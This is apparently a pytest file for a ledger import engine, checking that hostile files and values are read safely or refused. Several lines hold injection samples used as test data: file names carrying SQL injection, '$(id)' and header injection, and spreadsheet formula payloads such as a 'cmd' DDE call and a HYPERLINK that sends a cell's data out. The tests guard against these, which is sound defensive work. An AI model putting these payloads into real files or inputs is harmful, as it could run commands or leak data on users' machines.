"""What else may arrive as a file, numbered as in the list of hostile input in the documentation.

docs/reference/hostile-files.md says which test proves each number; a test here reads that page.
"""

from __future__ import annotations

import re
import tempfile
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kernklant.engine.errors import ImportRefused, StoreBusy, UserError
from kernklant.engine.evaluation.tables import write_table
from kernklant.engine.ledger.dates import read_date
from kernklant.engine.ledger.facts import current_customers
from kernklant.engine.ledger.facts_out import facts_out
from kernklant.engine.ledger.imports import ImportRequest, import_file
from kernklant.engine.ledger.numbers import read_number, readings
from kernklant.engine.ledger.tables import TABLES
from kernklant.engine.store import Store
from tests.engine.ledger.files import (
    amounts,
    contents,
    csv_file,
    home,
    lines,
    stored,
    take,
    take_text,
    xlsx_file,
)
from tests.environments import ROOT

PAGE = ROOT / "docs" / "reference" / "hostile-files.md"


def test_every_number_of_the_page_is_proven_by_tests_that_exist() -> None:
    rows = re.findall(r"^\| (\d+) \|.*\| ([^|]+) \|$", PAGE.read_text(encoding="utf-8"), re.M)
    assert [int(number) for number, _ in rows] == list(range(1, 24))
    for number, named in rows:
        for file, test in re.findall(r"`([\w/]+\.py)::(\w+)`", named) or [("", number)]:
            text = (ROOT / "tests" / "engine" / "ledger" / file).read_text(encoding="utf-8")
            assert f"def {test}(" in text, f"{number}: {file}::{test}"


# -- 14: who belongs to whom


def test_mothers_in_a_circle_are_facts_and_stop_nothing(tmp_path: Path) -> None:
    """The circle is told and cut by the evaluation (value/groups.py)."""
    store, receipt = take_text(
        tmp_path, lines("1;2", "2;3", "3;1", header="klantnummer;moeder"), dataset="customers"
    )
    assert receipt.rows_accepted == 3
    mothers = current_customers(store.snapshot()).select(["customer", "group_customer"])
    assert mothers["group_customer"].null_count == 0


def test_a_sale_to_somebody_unknown_makes_him_known(tmp_path: Path) -> None:
    store, receipt = take_text(tmp_path, lines("nieuw;2025-01-31;5,00"))
    assert (receipt.rows_accepted, receipt.customers_new) == (1, 1)
    assert stored(store, "source_no", table="customers") == [("nieuw",)]


# -- 16: refunds and odd money


@pytest.mark.parametrize(
    "cells",
    [["-5,00"], ["5,00", "-9,00"], ["0,00"], ["1000000000000,00"], ["-0,01", "0,01"]],
    ids=["only refunds", "refunds above sales", "nothing", "a million million", "a cent each way"],
)
def test_odd_money_adds_up(tmp_path: Path, cells: list[str]) -> None:
    _, receipt = take_text(tmp_path, amounts(*cells), numbers="nl")
    meant = sum((Decimal(cell.replace(",", ".")) for cell in cells), Decimal(0))
    assert (receipt.rows_accepted, receipt.amount_accepted) == (len(cells), meant)


# -- 19: what else a workbook may hold


def test_hidden_sheets_rows_and_links_are_read_or_named(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (
        ["klantnummer", "factuurdatum", "bedrag"],
        ["1", "2025-01-31", 5],
        ["2", "2025-01-31", 7],
    ):
        sheet.append(row)
    sheet.row_dimensions[3].hidden = True
    sheet["D2"] = '=WEBSERVICE("http://127.0.0.1:9/x")'
    sheet["D3"].hyperlink = "http://127.0.0.1:9/y"
    secret = book.create_sheet("verborgen")
    secret.sheet_state = "hidden"
    secret.append(["iets", "anders"])
    secret.append(["a", "b"])
    book.save(tmp_path / "f.xlsx")
    (receipt,) = import_file(
        home(tmp_path), ImportRequest(tmp_path / "f.xlsx", dataset="sales", sheet=sheet.title)
    )
    assert (receipt.rows_file, receipt.amount_accepted) == (2, Decimal("12.00"))


# -- 20: Parquet that lies


def parquet_bytes(tmp_path: Path) -> bytes:
    rows = {
        "klantnummer": ["1"] * 500,
        "factuurdatum": ["2025-01-31"] * 500,
        "bedrag": [1.25] * 500,
    }
    pq.write_table(pa.table(rows), tmp_path / "f.parquet")
    return (tmp_path / "f.parquet").read_bytes()


def test_a_parquet_file_with_any_byte_changed_is_refused_or_says_so_itself(tmp_path: Path) -> None:
    """A flipped byte may be another value, which no format could tell; it never is a crash."""
    whole = parquet_bytes(tmp_path)
    path = tmp_path / "g.parquet"
    refused = 0
    for at in range(0, len(whole), max(len(whole) // 60, 1)):
        data = bytearray(whole)
        data[at] ^= 0xFF
        path.write_bytes(data)
        try:
            take(home(tmp_path / str(at)), path, numbers="en", dates="ymd")
        except UserError:
            refused += 1
    assert refused > 20


@pytest.mark.parametrize("length", [0, 7, 0x7FFFFFFF, 0xFFFFFFFF])
def test_a_footer_of_a_wrong_length_is_refused(tmp_path: Path, length: int) -> None:
    whole = parquet_bytes(tmp_path)
    path = tmp_path / "g.parquet"
    path.write_bytes(whole[:-8] + length.to_bytes(4, "little") + b"PAR1")
    with pytest.raises(ImportRefused):
        take(home(tmp_path), path)


# -- 21: file names

NAMES = [
    "con.csv", "a b.csv", "é.csv", "😀.csv", "'; DROP TABLE imports; --.csv", "%s%n.csv",
    "<img src=x>.csv", "a\r\nSet-Cookie: x.csv", "\u202eexe.csv", "-rf.csv", "$(id).csv",
    "x" * 200 + ".csv", "..csv", "a\\b.csv", "[red]x.csv", "file:x.csv",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_file_name_is_only_a_name(tmp_path: Path, name: str) -> None:
    store = home(tmp_path)
    receipt = take(store, csv_file(tmp_path, amounts("1,50", "x"), name))
    assert receipt.rows_accepted == 1
    assert store.imports()["file_name"].to_pylist() == [name]
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(["home", name])


# -- 22: cut off, and many at once


@pytest.mark.parametrize("share", [0.5, 0.9, 0.99])
def test_a_file_that_was_cut_off_never_counts_half_a_number(tmp_path: Path, share: float) -> None:
    """A CSV does not say where it ends: whole lines are taken, half a line is not."""
    rows = [f"{n};2025-01-31;{n},5{n % 10}" for n in range(400)]
    text = lines(*rows)
    cut = text[: int(len(text) * share)].rstrip("\n")
    store, _ = take_text(tmp_path, cut, numbers="nl", dates="ymd")
    whole = {row.split(";")[0]: Decimal(row.split(";")[2].replace(",", ".")) for row in rows}
    numbers = dict(stored(store, "customer", "source_no", table="customers"))
    found = {numbers[who]: amount for who, amount in stored(store, "customer", "amount")}
    last = cut.splitlines()[-1].split(";")[0]
    assert {who: amount for who, amount in found.items() if who != last} == {
        who: whole[who] for who in found if who != last
    }


def test_fifty_uploads_at_once_all_come_in_or_are_told_to_wait(tmp_path: Path) -> None:
    store = home(tmp_path)
    files = [csv_file(tmp_path, amounts(f"{n},50"), f"{n}.csv") for n in range(50)]

    def put(file: Path) -> int:
        try:
            return take(Store.open(store.home, schemas=store.schemas), file).rows_accepted
        except StoreBusy:
            return 0

    with ThreadPoolExecutor(8) as pool:
        taken = sum(pool.map(put, files))
    assert taken == store.snapshot().table("sales").num_rows >= 1
    for file in files:
        take(store, file)
    assert store.snapshot().table("sales").num_rows == 50


# -- 23: what leaves and comes back

ACTING = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", '=HYPERLINK("http://x/?"&A1)', "＝1+1",
    "'=1", "''=1", "'", "'t Hoekje", '"=1"', "\u202ea", "a\tb", "=", "-",
]  # fmt: skip


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_what_is_exported_comes_back_as_it_was(tmp_path: Path, suffix: str) -> None:
    first = everything(tmp_path / "1")
    again = home(tmp_path / "2")
    for table in TABLES:
        rows = facts_out(first, table)
        file = tmp_path / f"{table}{suffix}"
        assert write_table(rows, file) == rows.num_rows
        if suffix != ".parquet":
            assert_harmless(file)
        receipt = take(again, file, dataset=table)
        assert (receipt.rows_accepted, receipt.rows_rejected) == (rows.num_rows, 0), receipt.reasons
        if table not in ("customers", "payments"):
            assert contents(again, table) == contents(first, table)
    assert people(again) == people(first)
    assert facts_out(again, "payments").sort_by("document") == facts_out(first, "payments").sort_by(
        "document"
    )


def everything(folder: Path) -> Store:
    """A ledger with something in each table, hostile names, and an invoice paid since."""
    folder.mkdir()
    store = home(folder)
    rows = [[f"k{n}", name, "k1" if n else ""] for n, name in enumerate(ACTING)]
    xlsx = xlsx_file(folder, [["klantnummer", "naam", "moeder"], *rows])
    take(store, xlsx, dataset="customers")
    for table in ("sales", "activities", "contracts", "feedback", "ratings", "wallets", "flags"):
        take(store, csv_file(folder, some_rows(table)), dataset=table, numbers="en", dates="ymd")
    head = "klantnummer;factuurnummer;factuurdatum;bedrag;betaaldatum\n"
    take(store, csv_file(folder, head + "k1;F1;2025-01-02;12,50;\nk1;F2;2025-01-02;1,50;\n"),
         dataset="payments")  # fmt: skip
    take(store, csv_file(folder, head + "k1;F1;2025-01-02;12,50;2025-02-01\n"), dataset="payments")
    return store


def some_rows(table: str) -> str:
    """Three rows with a value in every column, in the column's own words."""
    kinds: dict[str, Any] = {
        "date": "2025-03-31", "money": "12.50", "number": "3.125", "whole": "2", "bool": "ja",
    }  # fmt: skip
    columns = [
        column for column in TABLES[table].columns if column.name not in ("margin", "currency")
    ]
    head = ";".join(column.name for column in columns)
    body = []
    for n in range(3):
        cells = []
        for column in columns:
            default = f"k{n}" if column.kind == "customer" else kinds.get(column.kind, f"x{n}")
            cells.append(next(iter(column.words), default))
        body.append(";".join(cells))
    return "\n".join([head, *body]) + "\n"


def people(store: Store) -> list[dict[str, Any]]:
    rows = facts_out(store, "customers").to_pylist()
    return sorted(rows, key=lambda row: str(row["customer"]))


def assert_harmless(file: Path) -> None:
    """No cell begins with what a spreadsheet would run; none is a formula."""
    if file.suffix == ".xlsx":
        sheet = openpyxl.load_workbook(file).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    else:
        import csv

        with file.open(encoding="utf-8", newline="") as handle:
            texts = [cell for row in csv.reader(handle) for cell in row]
    number = re.compile(r"-?[0-9.]+")
    acting = [
        text
        for text in texts
        if text.startswith(tuple("=+-@\t\r＝")) and not number.fullmatch(text)
    ]
    assert acting == []


# -- fuzzers: whatever arrives is read, or refused in words

ANY = st.text(max_size=40)
NEAR = st.text("0123456789.,-+ ()'€eENaif/:TZ\u00a0\u2212\u202f٣\n\0", max_size=30)


@settings(max_examples=2_000)
@given(st.one_of(ANY, NEAR))
@example("9" * 5_000)
@example("1e1000000")
@example("-" * 5_000)
@example("(" * 5_000)
@example(" " * 5_000 + "1")
@example("1" + " 000" * 2_000)
def test_any_text_is_a_number_or_is_not(text: str) -> None:
    for notation in ("nl", "en", None):
        value = read_number(text, notation)  # type: ignore[arg-type]
        assert value is None or (value.is_finite() and len(str(value)) < 100)
    assert len(readings(text)) == 2


@settings(max_examples=2_000)
@given(st.one_of(ANY, NEAR))
@example("1" * 5_000)
@example("1-" * 3_000)
def test_any_text_is_a_day_or_is_not(text: str) -> None:
    for order in ("dmy", "mdy", "ymd", None):
        day = read_date(text, order)  # type: ignore[arg-type]
        assert day is None or 1 <= day.year <= 9999


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=400),
        st.text("klantdum;,\t|\"'\n\r\0 01239.-é\ufeff", max_size=300).map(str.encode),
        st.lists(st.text(max_size=8), min_size=3, max_size=3).map(
            lambda cells: ("klantnummer;factuurdatum;bedrag\n" + ";".join(cells) + "\n").encode(
                "utf-8", "surrogatepass"
            )
        ),
    )
)
def test_any_bytes_are_a_table_or_are_refused_in_words(content: bytes) -> None:
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        path = csv_file(folder, content)
        store = home(folder)
        try:
            receipt = take(store, path)
        except UserError:
            assert store.imports().num_rows == 0
        else:
            counted = receipt.rows_accepted + receipt.rows_known + receipt.rows_rejected
            assert counted == receipt.rows_file
